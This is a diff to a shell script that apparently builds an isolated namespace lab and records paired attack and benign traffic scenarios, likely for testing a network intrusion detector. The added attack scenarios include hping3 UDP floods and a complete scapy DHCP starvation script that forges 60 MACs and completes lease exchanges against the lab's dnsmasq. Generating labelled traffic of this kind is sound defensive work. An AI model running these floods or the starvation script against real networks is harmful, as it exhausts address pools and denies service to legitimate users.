@@ -1741,6 +1741,146 @@ scn_udp_fanin_target_streams_hping3() {
 	wait "$s" || true
 }
 
+# Session 19 (issue 14): a flood its target echoes from a port of its own.
+# A UDP echo responder (python) on the NAS's unlisted port 9999 sends back
+# every datagram of hping3's one-flow flood (-s 5004 -k -p 9999 --flood
+# for 3 s): answered in kind, the stream's own datagrams, which make no stream
+# two-way. Its twin: python at the same pace and port, the NAS answering
+# each datagram with one of its own (a counter and its own bytes, as a
+# tunnel's far end or a game server does): two-way, quiet.
+scn_udp_flood_echo_highport_hping3() {
+	cat >"$tmp/echo9999.py" <<'EOF'
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("0.0.0.0", 9999))
+while True:
+    b, a = s.recvfrom(2048)
+    s.sendto(b, a)
+EOF
+	spawn nas "$py" "$tmp/echo9999.py"; sleep 1
+	inns evil timeout 3 hping3 -q -2 -s 5004 -k -p 9999 --flood "$nas" >/dev/null 2>&1 || true
+	local p; for p in $(ip netns pids "$P-nas"); do grep -qa echo9999.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
+cat >"$tmp/twoway.py" <<'EOF'
+import os, socket, struct, sys, time
+if sys.argv[1] == "serve": # answer each datagram with one of our own, as long
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 9999)); n, own = 0, os.urandom(1400)
+    while True:
+        b, a = s.recvfrom(2048); n += 1
+        s.sendto(struct.pack("!IQ", 2, n) + own[:len(b) - 12], a)
+dst, rate, secs = sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40000)); s.setblocking(False)
+t0, n, blk = time.time(), 0, os.urandom(1400)
+while time.time() - t0 < secs:
+    for _ in range(10):
+        s.sendto(struct.pack("!IQ", 1, n) + blk[:1188], (dst, 9999)); n += 1
+    try:
+        while s.recv(2048): pass
+    except BlockingIOError: pass
+    ahead = n / rate - (time.time() - t0)
+    if ahead > 0: time.sleep(ahead)
+EOF
+scn_benign_udp_two_way_highport_python() {
+	spawn nas "$py" "$tmp/twoway.py" serve; sleep 1
+	inns pc "$py" "$tmp/twoway.py" send "$nas" 6000 3 || true
+	local p; for p in $(ip netns pids "$P-nas"); do grep -qa twoway.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
+
+# Session 19 (issue 14): starvation by a tool that completes the exchange.
+# scapy on the attacker asks the gateway's dnsmasq (its pool widened to
+# .130-.250) for a lease from each of 60 random MACs (frame source and
+# chaddr, broadcast flag), DISCOVER, the OFFER, REQUEST, the ACK (each
+# retransmitted as RFC 2131 4.1 says, a NAK starting over), all within
+# seconds, then sends from each forged MAC one sign of a stack: an
+# ARP probe of the address the ACK gave (even MACs) or an IPv6 router
+# solicitation carrying the MAC (odd), and nothing more. Its twin: 60
+# clients, each its own namespace with ARP off, the same exchange
+# (dhcpc.py), then RFC 5227's three probes of the lease 1 to 2 s apart, and
+# nothing more (a device waiting for its configuration): quiet.
+scn_dhcp_starvation_dora_probe_scapy() {
+	pkill_gw_dnsmasq
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
+		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/dora.leases"
+	sleep 1
+	scapy evil 'import random, select
+s = conf.L2socket(iface="eth0", filter="udp and dst port 68")
+def ask(m, x, typ, extra=[]):
+    s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+           BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", typ)] + extra + ["end"]))
+clients = {}
+for i in range(60):
+    m = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
+    x = random.getrandbits(32)
+    clients[x] = {"mac": m, "state": "discover", "at": time.time()}
+    ask(m, x, "discover"); time.sleep(0.02)
+t0 = time.time()
+while time.time() - t0 < 40 and any(c["state"] != "done" for c in clients.values()):
+    for x, c in clients.items(): # RFC 2131 4.1: retransmit what went unanswered
+        if c["state"] == "discover" and time.time() - c["at"] > 4: ask(c["mac"], x, "discover"); c["at"] = time.time()
+        if c["state"] == "request" and time.time() - c["at"] > 4: ask(c["mac"], x, "request", c["opts"]); c["at"] = time.time()
+    if not select.select([s], [], [], 0.2)[0]: continue
+    p = s.recv()
+    if p is None or not p.haslayer(DHCP) or p[BOOTP].xid not in clients: continue
+    c, t = clients[p[BOOTP].xid], dict(o for o in p[DHCP].options if isinstance(o, tuple))
+    if t.get("message-type") == 2 and c["state"] == "discover":
+        c["state"], c["at"], c["opts"] = "request", time.time(), [("requested_addr", p[BOOTP].yiaddr), ("server_id", t["server_id"])]
+        ask(c["mac"], p[BOOTP].xid, "request", c["opts"])
+    elif t.get("message-type") == 6 and c["state"] == "request": # a NAK: back to DISCOVER
+        c["state"], c["at"] = "discover", time.time(); ask(c["mac"], p[BOOTP].xid, "discover")
+    elif t.get("message-type") == 5 and c["state"] == "request":
+        c["state"] = "done"; m, a = c["mac"], p[BOOTP].yiaddr
+        if int(m[-2:], 16) % 2 == 0:
+            s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=m, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=a))
+        else:
+            s.send(Ether(src=m, dst="33:33:00:00:00:02")/IPv6(src=in6_mactoifaceid(m).join(["fe80::", ""]), dst="ff02::2")/ICMPv6ND_RS()/ICMPv6NDOptSrcLLAddr(lladdr=m))
+print(sum(c["state"] == "done" for c in clients.values()), "leases")
+time.sleep(22)'
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+sed -e 's/^subprocess.run(\["ip", "addr".*$/gw = p[Ether].src/' -e '/^subprocess.run(\["ping"/d' "$tmp/dhcpc.py" >"$tmp/probec.py"
+cat >>"$tmp/probec.py" <<'EOF'
+time.sleep(random.uniform(0, 1)) # RFC 5227 2.1.1: PROBE_WAIT, then PROBE_NUM probes PROBE_MIN to PROBE_MAX apart
+for i in range(3):
+    s.send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=addr))
+    time.sleep(random.uniform(1, 2))
+EOF
+scn_benign_dhcp_storm_probing_scapy() {
+	local i ns ouis=(00:12:41 ec:71:db 9c:8e:cd 44:19:b6 b0:c5:54 00:40:8c) w=()
+	pkill_gw_dnsmasq
+	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
+		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/probe.leases"
+	for i in $(seq 1 60); do
+		ns=$P-c$i
+		ip netns add "$ns"
+		ip -n "$SW" link add "c$i" type veth peer name eth0 netns "$ns" address "${ouis[i % 6]}:00:05:$(printf %02x "$i")"
+		ip -n "$ns" link set lo up
+		ip netns exec "$ns" sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1
+		ip -n "$ns" link set eth0 up
+		ip -n "$ns" link set eth0 arp off
+		ip -n "$SW" link set "c$i" master br0 up
+		ip netns exec "$ns" "$py" "$tmp/probec.py" "$tmp/probe-go" "$tmp/probe-ready$i" >/dev/null 2>&1 & w+=($!)
+	done
+	for i in $(seq 600); do [ "$(ls "$tmp"/probe-ready* 2>/dev/null | wc -l)" -ge 60 ] && break; sleep 0.2; done
+	touch "$tmp/probe-go"
+	wait "${w[@]}" || true
+	sleep 22
+	for i in $(seq 1 60); do ip netns del "$P-c$i"; done
+	pkill_gw_dnsmasq
+	start_gw_dnsmasq
+}
+
+# Session 19 (issue 14): a flood from NFS's port at a DNS server. hping3
+# sends dnsmasq on the NAS a real query (printer.lab, from a file: -E) from
+# source port 2049 (-s 2049 -k -p 53 --flood, 3 s); dnsmasq answers each it
+# reads: a service's replies, however NFS-like the flood's source port.
+scn_udp_flood_nfs_port_dns_hping3() {
+	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --address=/printer.lab/$nas
+	"$py" -c 'import sys; from scapy.all import DNS, DNSQR; sys.stdout.buffer.write(bytes(DNS(id=7, rd=1, qd=DNSQR(qname="printer.lab"))))' >"$tmp/query.bin"
+	sleep 1
+	inns evil timeout 3 hping3 -q -2 -s 2049 -k -p 53 -E "$tmp/query.bin" -d "$(stat -c %s "$tmp/query.bin")" --flood "$nas" >/dev/null 2>&1 || true
+	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
